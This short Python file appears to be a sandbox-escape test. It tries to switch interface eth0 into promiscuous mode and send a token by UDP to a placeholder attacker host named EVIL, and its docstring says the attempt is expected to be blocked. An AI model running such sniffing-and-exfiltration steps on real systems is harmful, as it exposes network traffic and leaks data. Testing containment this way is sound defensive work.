"""
how: its interface listening to everything
expect: shut
unseen: a plain network would carry it, as it has a way there already
"""

from frames import changed
from land import EVIL
from sockets import udp


def attempt(token):
    return changed(["link", "set", "eth0", "promisc", "on"], lambda: udp(EVIL, 9999, token))
